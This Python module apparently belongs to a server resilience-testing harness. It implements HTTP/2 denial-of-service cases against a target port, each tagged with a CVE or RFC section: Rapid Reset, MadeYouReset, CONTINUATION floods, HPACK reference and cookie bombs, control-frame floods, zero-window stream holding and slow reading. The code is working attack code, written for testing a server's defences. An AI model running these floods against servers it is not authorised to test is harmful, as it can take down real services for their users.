"""Attacks on HTTP/2."""

import time

from edge.attacks.attack import EFFORT, MB, Attack
from edge.attacks.sockets import HELLO, Crowd, flood
from edge.http2 import fields, frames
from edge.http2.client import Client, Place

_GET = fields.block(fields.request(path="/small"))
_POST = fields.block(fields.request(path="/upload", method="POST"))
_BIG = fields.block(fields.request(path="/big"))
_HANG = fields.block(fields.request(path="/hang"))

# As many as a connection's floods may open.
_STREAMS = range(1, 40_001, 2)


def _flood(name, source, pieces, reads=True):
    def run(target):
        blobs = list(pieces())
        flood(target.h2_port, lambda: blobs, EFFORT.seconds, reads)

    return Attack(f"h2: {name}", source, run)


def _repeated(blob, opening=b""):
    """`opening`, then `blob` again and again: about 16 MB."""

    def pieces():
        many = blob * (65_536 // len(blob) + 1)
        yield opening
        yield from [many] * 256

    return pieces


def _on_each_stream(make):
    """What `make` gives for each stream, in pieces of a thousand."""

    def pieces():
        for first in range(0, len(_STREAMS), 1000):
            yield b"".join(make(stream) for stream in _STREAMS[first : first + 1000])

    return pieces


def _references():
    """One connection's bomb: a field of 4,000 bytes and thousands of references to it, a hundred
    times."""
    bomb = fields.indexed(fields.STATIC_ENTRIES + 1) * 15_000
    first = fields.block(fields.request()) + fields.remembered("x-bomb", "b" * 4000)
    yield frames.headers(1, first + bomb[:10_000])
    for stream in _STREAMS[1:101]:
        yield frames.headers(stream, fields.block(fields.request()) + bomb)


def _cookies():
    crumb = fields.remembered("cookie", "")
    again = fields.indexed(fields.STATIC_ENTRIES + 1) * 15_000
    yield frames.headers(1, fields.block(fields.request()) + crumb)
    for stream in _STREAMS[1:101]:
        yield frames.headers(stream, fields.block(fields.request()) + again)


def _large_heads():
    """A hundred heads of 50 KiB, each one within what is allowed."""
    block = fields.block(fields.request(path="/hang", more=[("x-a", "v" * 1000)] * 50))
    for stream in _STREAMS[:100]:
        yield frames.headers(stream, block[:16_384], whole=False)
        yield frames.continuation(stream, block[16_384:32_768], whole=False)
        yield frames.continuation(stream, block[32_768:48_000], whole=False)
        yield frames.continuation(stream, block[48_000:])


_LONG = fields.literal("x-a", "v" * 16_000)
_OPENED = frames.headers(1, _POST, end=False)

_FLOODS = [
    _flood(
        "Rapid Reset",
        "CVE-2023-44487",
        _on_each_stream(lambda one: frames.headers(one, _GET) + frames.reset(one)),
    ),
    _flood(
        "Rapid Reset of requests that hang",
        "CVE-2023-44487",
        _on_each_stream(lambda one: frames.headers(one, _HANG) + frames.reset(one)),
    ),
    _flood(
        "MadeYouReset by windows of 0",
        "CVE-2025-8671",
        _on_each_stream(lambda one: frames.headers(one, _HANG) + frames.window(one, 0)),
    ),
    _flood(
        "MadeYouReset by windows that overflow",
        "CVE-2025-8671",
        _on_each_stream(lambda one: frames.headers(one, _HANG) + frames.window(one, 2**31 - 1)),
    ),
    _flood(
        "MadeYouReset by DATA on half-closed streams",
        "CVE-2025-8671",
        _on_each_stream(lambda one: frames.headers(one, _HANG) + frames.data(one, b"x")),
    ),
    _flood(
        "MadeYouReset by malformed requests",
        "CVE-2025-8671",
        _on_each_stream(lambda one: frames.headers(one, _GET + fields.literal("te", "x"))),
    ),
    _flood(
        "CONTINUATION without end",
        "CVE-2024-27316",
        _repeated(frames.continuation(1, _LONG, whole=False), frames.headers(1, _GET, whole=False)),
    ),
    _flood(
        "empty CONTINUATION without end",
        "CVE-2024-27316",
        _repeated(frames.continuation(1, b"", whole=False), frames.headers(1, _GET, whole=False)),
    ),
    _flood(
        "fields without name and value",
        "CVE-2019-9516",
        _on_each_stream(lambda one: frames.headers(one, _GET + fields.literal("", "") * 500)),
    ),
    _flood("SETTINGS", "CVE-2019-9515", _repeated(frames.settings((4, 65_535)))),
    _flood("SETTINGS, reading nothing", "CVE-2019-9515", _repeated(frames.settings()), False),
    _flood("PING", "CVE-2019-9512", _repeated(frames.ping())),
    _flood("PING, reading nothing", "CVE-2019-9512", _repeated(frames.ping()), False),
    _flood("empty DATA", "CVE-2019-9518", _repeated(frames.data(1), _OPENED)),
    _flood("DATA of padding", "CVE-2019-9518", _repeated(frames.data(1, pad=0), _OPENED)),
    _flood("empty HEADERS", "CVE-2019-9518", _on_each_stream(lambda one: frames.headers(one, b""))),
    _flood("PRIORITY", "CVE-2019-9513", _repeated(frames.priority(1, on=3) + frames.priority(3))),
    _flood("PRIORITY of ever new streams", "CVE-2019-9513", _on_each_stream(frames.priority)),
    _flood("WINDOW_UPDATE of one byte", "CVE-2019-9511", _repeated(frames.window(0, 1))),
    _flood("frames that nobody knows", "RFC 9113 10.5", _repeated(frames.frame(0x77, 0, 0, b"?"))),
    _flood("a bomb of references", "CVE-2016-6581", _references),
    _flood("a bomb of crumbs of cookies", "CVE-2026-47774", _cookies),
    _flood(
        "tables resized without end",
        "RFC 7541 4.3",
        _on_each_stream(
            lambda one: frames.headers(one, (fields.resize(0) + fields.resize(4096)) * 1500 + _GET)
        ),
    ),
    _flood("a hundred large heads a connection", "RFC 9113 10.5.1", _large_heads),
    _flood(
        "requests, reading nothing",
        "CVE-2019-9517",
        _on_each_stream(lambda one: frames.headers(one, _GET)),
        False,
    ),
]


def _stuck_streams(target):
    """A hundred streams of 20 MB, with a window of 0."""
    with Client(Place(target.h2_port)) as client:
        client.send(frames.settings((frames.INITIAL_WINDOW_SIZE, 0)))
        streams = list(_STREAMS[:100])
        client.send(*(frames.headers(stream, _BIG) for stream in streams))
        client.until(lambda one: all(one.answer(stream).status for stream in streams), 5)
        client.until(lambda one: one.closed, EFFORT.seconds)
        answered = sum(client.answer(stream).status == 200 for stream in streams)
        return None if answered == 100 or client.closed else f"{answered} of 100 were answered"


def _stuck_connections(target):
    """The same with a large window for each stream, and nothing read."""
    opening = HELLO + frames.settings((frames.INITIAL_WINDOW_SIZE, 2**31 - 1))
    asked = b"".join(frames.headers(stream, _BIG) for stream in _STREAMS[:100])
    with Crowd(target.h2_port) as crowd:
        crowd.join(2, opening + asked, receive=4096)
        time.sleep(EFFORT.seconds)


def _slow_reading(target):
    """Twenty connections that open their windows byte by byte."""
    opening = HELLO + frames.settings((frames.INITIAL_WINDOW_SIZE, 0))
    asked = b"".join(frames.headers(stream, _BIG) for stream in _STREAMS[:5])
    with Crowd(target.h2_port) as crowd:
        crowd.join(20, opening + asked)
        deadline = time.monotonic() + EFFORT.seconds
        while time.monotonic() < deadline:
            crowd.say(b"".join(frames.window(stream, 1) for stream in _STREAMS[:5]))
            crowd.drain()
            time.sleep(0.02)


def _idle(target):
    with Crowd(target.h2_port) as crowd:
        crowd.join(EFFORT.of(1000), HELLO + frames.headers(1, _GET))
        crowd.answered(5)
        time.sleep(0.3)


def _deaf_uploads(target):
    """Uploads that nobody reads, as much of each as is taken."""
    opening = HELLO + frames.headers(
        1, fields.block(fields.request(path="/deaf", method="POST")), end=False
    )
    piece = frames.data(1, bytes(16_384))
    with Crowd(target.h2_port) as crowd:
        crowd.join(20, opening)
        deadline = time.monotonic() + EFFORT.seconds
        for _ in range(3):
            crowd.say(piece)
        while time.monotonic() < deadline:
            time.sleep(0.1)


def _bad_prefaces(target):
    with Crowd(target.h2_port) as crowd:
        crowd.join(EFFORT.of(1000), frames.PREFACE[:20])
        time.sleep(EFFORT.seconds)


_HELD = [
    Attack(
        "h2: a hundred streams of 20 MB with windows of 0", "CVE-2019-9517", _stuck_streams, 16 * MB
    ),
    Attack(
        "h2: two connections of 20 MB streams that read nothing",
        "CVE-2019-9517",
        _stuck_connections,
    ),
    Attack("h2: windows opened byte by byte", "CVE-2019-9511", _slow_reading),
    Attack(
        "h2: a thousand idle connections",
        "RFC 9113 10.5",
        _idle,
        lambda: EFFORT.of(1000) * 60_000 + 4 * MB,
    ),
    Attack("h2: uploads that nobody reads", "RFC 9113 10.5", _deaf_uploads, 20 * 262_144 + 2 * MB),
    Attack("h2: prefaces that break off", "RFC 9113 3.4", _bad_prefaces),
]

CASES = [*_FLOODS, *_HELD]
